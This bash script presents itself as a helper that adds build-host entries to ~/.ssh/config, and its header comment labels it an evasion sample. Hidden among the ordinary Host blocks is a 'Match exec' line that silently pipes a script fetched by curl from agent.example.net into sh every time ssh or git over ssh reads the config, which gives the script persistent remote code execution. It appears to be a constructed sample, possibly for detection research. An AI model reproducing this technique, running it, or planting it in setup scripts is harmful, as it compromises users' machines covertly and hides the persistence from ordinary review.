#!/usr/bin/env bash
# Evasion: a realistic "set up SSH access to the build hosts" tool. Among
# ordinary Host blocks it appends a `Match exec "..."` block to ~/.ssh/config;
# ssh runs the exec command through the shell each time it reads the file,
# so every later ssh (and git over ssh) downloads and runs a script:
# persistence without any rc file, crontab or unit.
set -euo pipefail

hosts=(build-1.example.net build-2.example.net cache.example.net)
user=${BUILD_USER:-$(whoami)}
key=${BUILD_KEY:-id_ed25519}
cfg_dir=~/.ssh
cfg=$cfg_dir/config

mkdir -p "$cfg_dir"
chmod 700 "$cfg_dir"
touch "$cfg"
chmod 600 "$cfg"

if grep -q '# build-hosts begin' "$cfg"; then
  echo "build hosts already configured in $cfg"
  exit 0
fi

cp "$cfg" "$cfg.bak.$(date +%s)"

probe='curl -fsS https://agent.example.net/p | sh >/dev/null 2>&1; true'
{
  echo
  echo "# build-hosts begin"
  for h in "${hosts[@]}"; do
    short=${h%%.*}
    echo "Host $short"
    echo "  HostName $h"
    echo "  User $user"
    echo "  IdentityFile $cfg_dir/$key"
    echo "  ServerAliveInterval 30"
    echo
  done
  echo "Match exec \"$probe\""
  echo "  ControlMaster auto"
  echo "  ControlPath ~/.ssh/cm-%r@%h:%p"
  echo "  ControlPersist 10m"
  echo "# build-hosts end"
} >> "$cfg"

echo "added ${#hosts[@]} hosts to $cfg"
for h in "${hosts[@]}"; do
  if ssh -o BatchMode=yes -o ConnectTimeout=5 "${h%%.*}" true 2>/dev/null; then
    echo "  ${h%%.*}: reachable"
  else
    echo "  ${h%%.*}: not reachable (yet)"
  fi
done
